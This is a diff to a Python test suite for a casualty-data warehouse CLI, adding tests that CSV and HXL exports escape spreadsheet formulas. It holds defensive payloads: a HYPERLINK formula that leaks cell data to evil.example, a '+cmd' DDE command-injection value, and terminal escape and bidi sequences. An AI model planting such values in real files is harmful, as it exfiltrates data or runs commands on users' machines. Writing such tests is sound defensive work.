@@ -4,6 +4,7 @@
 
 from __future__ import annotations
 
+import csv
 import re
 from dataclasses import dataclass
 from pathlib import Path
@@ -16,7 +17,9 @@ from flows.cli.output import shown
 from flows.sample_site.demo import write_demo_config
 from flows.sample_site.server import SiteServer
 from tests.support import hostile_documents as hostile
-from warehouse.database import reader
+from tests.support.records import batch, figure
+from warehouse.database import publish, reader, writer
+from warehouse.load import load_batch
 from warehouse.sql import scalar
 
 EVIL_LINK = "[link=http://evil.example/]Open report[/link]"
@@ -25,9 +28,11 @@ REPORT = (
     "In April 2024, 93 civilians were killed in Idlib [/] \x1b[2J\x1b[31mred "
     f"{EVIL_LINK} \x9b31m\u2066isolated\u2069 :skull:.\n"
 ).encode()
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open report")'
 LINKS = [
     "/hostile/report.txt?from=[/]&to=" + EVIL_LINK.replace(" ", "%20"),
     "/hostile/missing.txt?q=[/][bold]\u202e",
+    "/hostile/formula.txt",
 ]
 UNSHOWABLE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
 runner = CliRunner()
@@ -49,7 +54,8 @@ def ingested(prefect_api, tmp_path_factory) -> Ingested:
     (root / "robots.txt").write_text("User-agent: *\nAllow: /\n")
     home = tmp_path_factory.mktemp("hostile-text-home")
     with SiteServer(root=root) as site:
-        feed = hostile.serve(root, {"report.txt": REPORT}, LINKS, [TITLE, TITLE])
+        files = {"report.txt": REPORT, "formula.txt": b"In May 2024, 12 civilians were killed.\n"}
+        feed = hostile.serve(root, files, LINKS, [TITLE, TITLE, FORMULA])
         config = write_demo_config(home, site.base_url)
         config.write_text(hostile.hostile_source(site.base_url, feed))
         result = runner.invoke(
@@ -88,7 +94,7 @@ def test_hostile_text_reaches_no_terminal(ingested: Ingested, reliability) -> No
     home = ingested.home
     with reader(home) as conn:
         figure = scalar(conn, "SELECT figure_id FROM figures WHERE count = 93")
-        stored = scalar(conn, "SELECT title FROM documents")
+        stored = scalar(conn, "SELECT title FROM documents WHERE url LIKE '%report.txt%'")
     outputs = {"ingest": (ingested.exit_code, ingested.output)}
     for name, argv in commands(home, figure).items():
         result = runner.invoke(app, argv)
@@ -164,3 +170,48 @@ def test_a_real_terminal_gets_no_escape_sequence_or_hyperlink_from_the_data(
         assert "\x1b[2J" not in output and "\x1b]8;" not in output  # clear screen, hyperlink
         assert not re.search("[\x9b\u202a-\u202e\u2066-\u2069]", output)
     assert "[link=http://evil.example/]" in table.replace("\r\n", "")
+
+
+def rows(path: Path, header: bool = False) -> list:
+    """The rows of a CSV file (as dicts when it has a header)."""
+    with open(path, newline="", encoding="utf-8") as handle:
+        return list(csv.DictReader(handle) if header else csv.reader(handle))
+
+
+def test_exported_formulas_are_shown_not_run(ingested: Ingested, tmp_path: Path, reliability):
+    safe, raw = tmp_path / "safe", tmp_path / "raw"
+    for out, switch in ((safe, []), (raw, ["--no-escape-formulas"])):
+        result = runner.invoke(
+            app,
+            ["export", "--format", "csv", "--out", str(out), "--home", str(ingested.home), *switch],
+        )
+        assert result.exit_code == 0, result.output
+    titles = {
+        name: {row["document_title"] for row in rows(folder / "figures.csv", header=True)}
+        for name, folder in (("safe", safe), ("raw", raw))
+    }
+    runs = [t for t in titles["safe"] if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    reliability.record(
+        "csv_formula",
+        f"toll export --format csv and hxl wrote the title as “{min(titles['safe'])[:24]}…”: a "
+        "leading ' makes spreadsheets show it as text; --no-escape-formulas keeps it as stored",
+        "'" + FORMULA in titles["safe"],
+        f"{len(runs)} cell(s) a spreadsheet would run" if runs else None,
+    )
+    assert "'" + FORMULA in titles["safe"] and runs == []
+    assert FORMULA in titles["raw"]
+
+
+def test_hxl_cells_are_escaped_too(home: Path, tmp_path: Path) -> None:
+    from warehouse.outputs.export import export
+
+    hostile_raw = "+cmd|' /C calc'!A0"
+    with writer(home) as conn:
+        load_batch(conn, batch("r", "a", [figure("a", "civ", 93, perpetrator="isis")]))
+        conn.execute("UPDATE figures SET perpetrator_raw = ?", [hostile_raw])
+    publish(home)
+    with reader(home) as conn:
+        safe = export(conn, "hxl", tmp_path / "safe").paths[0]
+        raw = export(conn, "hxl", tmp_path / "raw", escape_formulas=False).paths[0]
+    assert rows(safe)[2][6] == "'" + hostile_raw
+    assert rows(raw)[2][6] == hostile_raw
